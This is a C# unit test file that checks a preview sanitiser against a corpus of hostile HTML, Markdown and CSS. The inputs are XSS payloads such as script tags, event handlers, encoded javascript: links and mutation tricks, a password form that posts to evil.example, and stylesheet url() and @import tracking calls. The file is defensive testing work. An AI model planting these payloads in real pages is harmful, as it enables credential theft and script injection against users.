using CloudService.Modules.Preview.Sanitising;
using Markdig;

namespace CloudService.Tests.Preview.Sanitising;

/// <summary>
/// Hostile provider output and hostile Markdown (rendered by Markdig as a plugin would, raw HTML and
/// generic attributes included): each input is shown to be dangerous before sanitising and harmless after.
/// </summary>
[Trait("Category", "Unit")]
public sealed class HostileCorpusTests
{
    private static readonly MarkdownPipeline Markdig = new MarkdownPipelineBuilder().UseAdvancedExtensions().Build();
    private static readonly PreviewSanitizer Sanitizer = new();

    public static TheoryData<string, string> HostileHtml() => new()
    {
        { "script element", "<p>hi</p><script>alert(1)</script>" },
        { "upper-case script with remote source", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>" },
        { "script inside an unknown element", "<custom-el><p>x</p><script>alert(1)</script></custom-el>" },
        { "img onerror", "<img src=x onerror=alert(1)>" },
        { "body onload", "<body onload=alert(1)><p>x</p>" },
        { "link with onmouseover", "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>" },
        { "details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>x</details>" },
        { "img onload with a good source", "<img src=\"https://ok.example/a.png\" onload=\"alert(1)\">" },
        { "javascript: link", "<a href=\"javascript:alert(1)\">x</a>" },
        { "mixed-case javascript: link", "<a href=\"  JaVaScRiPt:alert(1)\">x</a>" },
        { "decimal-entity javascript: link", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>" },
        { "hex-entity and named-entity javascript: link", "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>" },
        { "partly encoded javascript: link", "<a href=\"javas&#99;ript:alert(1)\">x</a>" },
        { "tab inside javascript:", "<a href=\"java&#x09;script:alert(1)\">x</a>" },
        { "control character before javascript:", "<a href=\"&#14;javascript:alert(1)\">x</a>" },
        { "vbscript: link", "<a href=\"vbscript:msgbox(1)\">x</a>" },
        { "data: HTML link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>" },
        { "data: link with markup", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>" },
        { "data: SVG image", "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">" },
        { "srcset with javascript:", "<img src=\"https://ok.example/a.png\" srcset=\"javascript:alert(1) 1x\">" },
        { "svg onload", "<svg onload=alert(1)><circle r=\"10\"/></svg>" },
        { "svg xlink:href javascript:", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=\"20\">x</text></a></svg>" },
        { "MathML mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>" },
        { "MathML href", "<math href=\"javascript:alert(1)\"><mi>x</mi></math>" },
        { "password form posting elsewhere", "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Sign in</button></form>" },
        { "autofocus input with onfocus", "<input type=\"text\" value=\"x\" autofocus onfocus=\"alert(1)\">" },
        { "textarea and select", "<textarea>x</textarea><select><option>a</option></select>" },
        { "button formaction", "<button formaction=\"javascript:alert(1)\">x</button>" },
        { "iframe", "<iframe src=\"https://evil.example\"></iframe>" },
        { "iframe srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>" },
        { "object and embed", "<object data=\"x.swf\"></object><embed src=\"x.swf\">" },
        { "style attribute with url(javascript:)", "<p style=\"background:url(javascript:alert(1))\">x</p>" },
        { "style attribute with expression()", "<div style=\"width: expression(alert(1))\">x</div>" },
        { "style attribute overlaying the page", "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>" },
        { "style attribute hiding an expression behind text-align", "<p style=\"text-align:center;background-image:url(https://evil.example/t)\">x</p>" },
        { "base element", "<base href=\"https://evil.example/\"><a href=\"x\">x</a>" },
        { "meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">" },
        { "stylesheet link", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">" },
        { "style element loading a tracker", "<style>body{background:url(https://evil.example/track)}</style>" },
        { "template with script", "<template><script>alert(1)</script></template>" },
        { "noscript mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>" },
        { "video source onerror", "<video><source onerror=\"alert(1)\"></video>" },
        { "table background javascript:", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>" },
        { "data attributes", "<div data-bind=\"click: steal\">x</div>" },
    };

    public static TheoryData<string, string> HostileMarkdown() => new()
    {
        { "javascript: link", "[click](javascript:alert(1))" },
        { "upper-case javascript: link", "[click](JAVASCRIPT:alert(1))" },
        { "entity-encoded javascript: link", "[click](&#x6A;avascript&#58;alert(1))" },
        { "javascript: reference link", "[click][a]\n\n[a]: javascript:alert(1)" },
        { "vbscript: link", "[click](vbscript:msgbox(1))" },
        { "data: image", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)" },
        { "raw script block", "# Title\n\n<script>alert(1)</script>\n" },
        { "inline javascript: anchor", "Some <a href=\"javascript:alert(1)\">inline</a> HTML." },
        { "generic attributes with a handler and style", "# Heading {onclick=\"alert(1)\" style=\"color:red\"}" },
        { "generic attributes on a link", "[link](https://ok.example){onmouseover=\"alert(1)\"}" },
        { "iframe block", "<iframe src=\"https://evil.example\"></iframe>" },
        { "inline svg with script", "Look: <svg><script>alert(1)</script></svg>" },
        { "form with password field", "<form action=\"https://evil.example\">\n<input type=\"password\" name=\"p\">\n</form>" },
        { "table cell with onerror image", "| a |\n|---|\n| <img src=x onerror=alert(1)> |" },
        { "task list with a live input", "- [ ] <input type=\"text\" onfocus=\"alert(1)\" autofocus>" },
        { "meta refresh in Markdown", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n\ntext" },
    };

    [Theory]
    [MemberData(nameof(HostileHtml))]
    public void Hostile_html_is_dangerous_before_and_harmless_after_sanitising(string name, string html)
    {
        Assert.NotEmpty(SafetyCheck.Violations(html));
        var sanitised = Sanitizer.Sanitize(html);
        Assert.True(SafetyCheck.Violations(sanitised).Count == 0, $"{name}: {string.Join("; ", SafetyCheck.Violations(sanitised))} in {sanitised}");
    }

    [Theory]
    [MemberData(nameof(HostileMarkdown))]
    public void Hostile_markdown_rendered_by_markdig_is_dangerous_before_and_harmless_after_sanitising(string name, string markdown)
    {
        var rendered = Markdown.ToHtml(markdown, Markdig);
        Assert.NotEmpty(SafetyCheck.Violations(rendered));
        var sanitised = Sanitizer.Sanitize(rendered);
        Assert.True(SafetyCheck.Violations(sanitised).Count == 0, $"{name}: {string.Join("; ", SafetyCheck.Violations(sanitised))} in {sanitised}");
    }

    [Fact]
    public void Text_of_removed_markup_is_never_reinterpreted_as_markup()
    {
        var sanitised = Sanitizer.Sanitize("<p title=\"&lt;script&gt;alert(1)&lt;/script&gt;\">&lt;img src=x onerror=alert(1)&gt;</p>");
        Assert.Empty(SafetyCheck.Violations(sanitised));
        Assert.Contains("&lt;img src=x onerror=alert(1)&gt;", sanitised, StringComparison.Ordinal);
    }

    [Fact]
    public void Safe_links_and_images_keep_their_urls()
    {
        var sanitised = Sanitizer.Sanitize(
            "<a href=\"https://ok.example/a?b=c#d\">1</a><a href=\"http://ok.example\">2</a><a href=\"mailto:someone@ok.example\">3</a>" +
            "<a href=\"docs/other.md\">4</a><a href=\"#section\">5</a><img src=\"https://ok.example/i.png\" alt=\"i\">");
        Assert.Contains("href=\"https://ok.example/a?b=c#d\"", sanitised, StringComparison.Ordinal);
        Assert.Contains("href=\"http://ok.example\"", sanitised, StringComparison.Ordinal);
        Assert.Contains("href=\"mailto:someone@ok.example\"", sanitised, StringComparison.Ordinal);
        Assert.Contains("href=\"docs/other.md\"", sanitised, StringComparison.Ordinal);
        Assert.Contains("href=\"#section\"", sanitised, StringComparison.Ordinal);
        Assert.Contains("src=\"https://ok.example/i.png\"", sanitised, StringComparison.Ordinal);
    }

    public static TheoryData<string, string> HostileStylesheets() => new()
    {
        { "@import", "@import url(https://evil.example/x.css); h1 { color: red }" },
        { "@import with a plain string", "@import 'https://evil.example/x.css'; h1 { color: red }" },
        { "url() background", "h1 { color: red } body { background: url(https://evil.example/track.png) }" },
        { "escaped url()", "h1 { color: red } body { background: u\\72l(https://evil.example/track.png) }" },
        { "expression()", "h1 { color: red } div { width: expression(alert(1)) }" },
        { "behavior", "h1 { color: red } div { behavior: url(x.htc) }" },
        { "-moz-binding", "h1 { color: red } div { -moz-binding: url(x.xml#xss) }" },
        { "closing the style element", "h1 { color: red } </style><script>alert(1)</script>" },
        { "closing the style element from a string", "h1 { color: red } a::after { content: \"</style><script>alert(1)</script>\" }" },
        { "closing the style element from a selector", "h1 { color: red } a[title=\"</style><script>alert(1)</script>\"] { color: blue }" },
        { "@font-face", "h1 { color: red } @font-face { font-family: x; src: url(https://evil.example/x.woff) }" },
        { "url() inside @media", "h1 { color: red } @media screen { body { background-image: url(https://evil.example/t.png) } }" },
        { "image-set()", "h1 { color: red } body { background-image: image-set(\"https://evil.example/t.png\" 1x) }" },
        { "custom property smuggling url()", "h1 { color: red } :root { --bg: url(https://evil.example/t.png) } body { background-image: var(--bg) }" },
        { "javascript: in a value", "h1 { color: red } a { cursor: javascript:alert(1) }" },
        { "HTML comment opener", "h1 { color: red } <!-- a { color: blue } -->" },
    };

    [Theory]
    [MemberData(nameof(HostileStylesheets))]
    public void Hostile_stylesheets_lose_what_loads_or_runs_and_keep_plain_rules(string name, string css)
    {
        var sanitised = StylesheetSanitizer.Sanitize(css);
        Assert.NotNull(sanitised);
        var lower = sanitised.ToLowerInvariant();
        foreach (var forbidden in new[] { "url(", "@import", "expression", "behavior", "binding", "<", "image-set", "@font-face", "javascript:", ".css" })
        {
            Assert.False(lower.Contains(forbidden, StringComparison.Ordinal), $"{name}: \"{forbidden}\" survived in {sanitised}");
        }

        Assert.Contains("h1 { color: rgba(255, 0, 0, 1) }", sanitised, StringComparison.Ordinal);
    }

    [Fact]
    public void An_oversized_stylesheet_is_dropped_whole()
    {
        Assert.Null(StylesheetSanitizer.Sanitize(new string(' ', StylesheetSanitizer.MaxLength) + "h1 { color: red }"));
    }
}
